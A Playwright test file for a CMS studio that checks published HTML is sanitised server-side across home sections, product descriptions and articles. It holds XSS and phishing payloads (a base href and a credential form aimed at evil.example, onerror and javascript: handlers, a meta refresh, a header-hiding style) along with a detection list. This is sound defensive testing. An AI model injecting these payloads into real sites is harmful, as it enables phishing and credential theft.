import { expect, test, type Page } from './support/test';
import { ADMIN, startStudioServer, studioLogin, type StudioServer } from './studio-helpers';
import { sizes } from './support/visual';

// CMS HTML published in the studio is sanitised on the server with one allow-list and is part of the page's
// server HTML (docs/decisions/080-content-html-identity-and-art.md, docs/decisions/113-first-screen.md):
// a home section's <meta http-equiv=refresh> redirects nobody, a product description's <style> hides nothing,
// and crawlers read product, article and service-page bodies without scripts. A server of its own (content is
// published here), the production build, real Chromium.

// (A port no other spec uses: two workers start their own servers at the same time.)
const PORT = 4337;
const ATTACK =
  '<base href="https://evil.example/qz/"><form action="https://evil.example/qz"><input name="qzpass"><button>Kirim</button></form>' +
  '<p><img src="/favicon.svg" alt="" width="16" height="16" onerror="alert(1)"> <a href="javascript:alert(2)">tautan qz</a></p>';

let server: StudioServer;
test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  test.setTimeout(240_000);
  server = await startStudioServer('pglite', PORT);
});
test.afterAll(async () => {
  await server?.stop();
});

/** A call to the studio's API from the studio page (same origin, the staff cookie). */
async function studioApi(page: Page, path: string, method = 'GET', body?: unknown): Promise<{ status: number; data: unknown }> {
  return page.evaluate(
    async ([url, verb, payload]) => {
      const response = await fetch(url, {
        method: verb,
        headers: payload === undefined ? {} : { 'content-type': 'application/json' },
        body: payload === undefined ? undefined : JSON.stringify(payload),
      });
      return { status: response.status, data: ((await response.json().catch(() => ({}))) as { data?: unknown }).data };
    },
    [`/api/cms/studio/${path}`, method, body] as const,
  );
}

/** Saves the entity's draft with `changes` and publishes it, as the studio's editor does. */
async function publishWith(page: Page, collection: string, id: number, changes: Record<string, unknown>) {
  const entity = (await studioApi(page, `collections/${collection}/${id}`)).data as { draft: Record<string, unknown>; version: number };
  const saved = await studioApi(page, `collections/${collection}/${id}`, 'PUT', {
    data: { ...entity.draft, ...changes },
    version: entity.version,
  });
  expect(saved.status).toBe(200);
  const published = await studioApi(page, `collections/${collection}/${id}/publish`, 'POST', {
    version: (saved.data as { version: number }).version,
  });
  expect(published.status).toBe(200);
}

const publicJson = async (path: string) => ((await (await fetch(`${server.base}/api/cms/${path}`)).json()) as { data: unknown }).data;
const serverHtml = async (path: string) => (await fetch(`${server.base}${path}`, { headers: { accept: 'text/html' } })).text();

/** The markup the server rendered into #root (not the query cache it carries beside it). */
function rootMarkup(html: string): string {
  const markup = /<div id="root"[^>]*>([\s\S]*)<\/div>\s*<script type="application\/json" id="ssr-state">/.exec(html)?.[1];
  expect(markup, '#root is server-rendered').toBeTruthy();
  return markup!;
}

/** The page's HTML holds none of the attack (its own head and scripts aside, which the attack does not reach). */
function expectNoAttack(html: string) {
  const body = html.slice(html.indexOf('<div id="root"'));
  for (const left of ['evil.example', 'http-equiv', '<base', 'qzpass', 'onerror', 'javascript:', 'header{'])
    expect(body).not.toContain(left);
}

test('a home section carrying a meta refresh does not redirect the home page', async ({ browser }) => {
  test.setTimeout(90_000);
  const studio = await browser.newPage();
  await studioLogin(studio, server.base, ADMIN.email, ADMIN.password);
  const list = (await studioApi(studio, 'collections/home-sections?per_page=50')).data as { id: number }[];
  let sectionId: number | undefined;
  for (const { id } of list) {
    const entity = (await studioApi(studio, `collections/home-sections/${id}`)).data as { draft: { key: string } };
    if (entity.draft.key === 'section_1') sectionId = id;
  }
  expect(sectionId).toBeDefined();
  const refresh = '<meta http-equiv="refresh" content="1;url=/about-us?qz-redirected">';
  await publishWith(studio, 'home-sections', sectionId!, {
    body: `${refresh}<p>Bagian uji Qzhome.</p>${ATTACK}`,
    body_en: `${refresh}<p>Test section Qzhome.</p>${ATTACK}`,
  });
  await studio.close();

  for (const device of Object.values(sizes)) {
    const context = await browser.newContext({ ...device, serviceWorkers: 'block' });
    const page = await context.newPage();
    const navigations: string[] = [];
    page.on('framenavigated', (frame) => {
      if (frame === page.mainFrame()) navigations.push(frame.url());
    });
    await page.goto(`${server.base}/`);
    // The section renders below the fold (near the viewport or once the page is idle): bring it in.
    const section = page.getByText('Bagian uji Qzhome.');
    await expect(async () => {
      await page.mouse.wheel(0, 1200);
      await expect(section).toBeVisible({ timeout: 1_000 });
    }).toPass({ timeout: 30_000 });
    await section.scrollIntoViewIfNeeded();
    // The refresh asked for one second: three seconds later the page is still the home page.
    await page.waitForTimeout(3_000);
    expect(new URL(page.url()).pathname).toBe('/');
    expect(navigations.filter((url) => url.includes('qz-redirected'))).toEqual([]);
    // The page's own search sheet in the header is a form; what the section carried is not there.
    await expect(page.locator('#root main meta, #root main base, #root main form')).toHaveCount(0);
    await context.close();
  }
  expect(((await publicJson('v2/section_1')) as { body: string }).body).not.toContain('refresh');
});

test('a product description’s <style> does not hide the header; the description is in the server’s HTML', async ({ browser }) => {
  test.setTimeout(90_000);
  const studio = await browser.newPage();
  await studioLogin(studio, server.base, ADMIN.email, ADMIN.password);
  const [product] = ((await publicJson('v3/products/fetch?per_page=1')) as { data: { id: number; slug: string }[] }).data;
  const style = '<style>header{display:none!important}body{background:#000!important}</style>';
  await publishWith(studio, 'products', product!.id, {
    content: `<p>Deskripsi uji Qzproduk.</p>${style}${ATTACK}`,
    content_en: `<p>Test description Qzproduct.</p>${style}${ATTACK}`,
  });
  await studio.close();

  for (const device of Object.values(sizes)) {
    const context = await browser.newContext({ ...device, serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(`${server.base}/product-info/${product!.slug}`);
    await expect(page.getByText('Deskripsi uji Qzproduk.')).toBeVisible();
    await expect(page.getByText('Loading...', { exact: true })).toHaveCount(0);
    await expect(page.locator('header').first()).toBeVisible();
    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).not.toBe('rgb(0, 0, 0)');
    await expect(page.locator('#root main style, #root main form, #root main [onerror]')).toHaveCount(0);
    await context.close();
  }

  // Crawlers: the description, without the attack, in the HTML the server sends (both languages).
  for (const [query, text] of [
    ['', 'Deskripsi uji Qzproduk.'],
    ['?lang=en', 'Test description Qzproduct.'],
  ] as const) {
    const html = await serverHtml(`/product-info/${product!.slug}${query}`);
    expect(rootMarkup(html)).toContain(text);
    expectNoAttack(html);
  }
});

test('article and service-page bodies are in the server’s HTML, sanitised, in both languages', async ({ browser }) => {
  test.setTimeout(60_000);
  const studio = await browser.newPage();
  await studioLogin(studio, server.base, ADMIN.email, ADMIN.password);
  const [article] = ((await publicJson('v2/event?kind=article&size=1')) as { data: { id: number; slug: string }[] }).data;
  await publishWith(studio, 'articles', article!.id, {
    body: `<h2>Bagian Qzartikel</h2><p>Isi artikel Qzartikel.</p>${ATTACK}`,
    body_en: `<h2>Section Qzarticle</h2><p>Article text Qzarticle.</p>${ATTACK}`,
  });
  await studio.close();
  for (const [query, text] of [
    ['', 'Isi artikel Qzartikel.'],
    ['?lang=en', 'Article text Qzarticle.'],
  ] as const) {
    const html = await serverHtml(`/berita_detail/${article!.slug}${query}`);
    expect(rootMarkup(html)).toContain(text);
    expectNoAttack(html);
  }
  // The service page's terms (a CMS web page rebuilt as the page's own elements) are in its HTML too.
  const terms = (await publicJson('v2/web-page/find?slug=service-garansi')) as { body: string };
  const firstParagraph = /<p>([A-Za-z0-9 ,.]{12,60})/.exec(terms.body)?.[1];
  expect(firstParagraph).toBeTruthy();
  expect(rootMarkup(await serverHtml('/service-center'))).toContain(firstParagraph!);
});
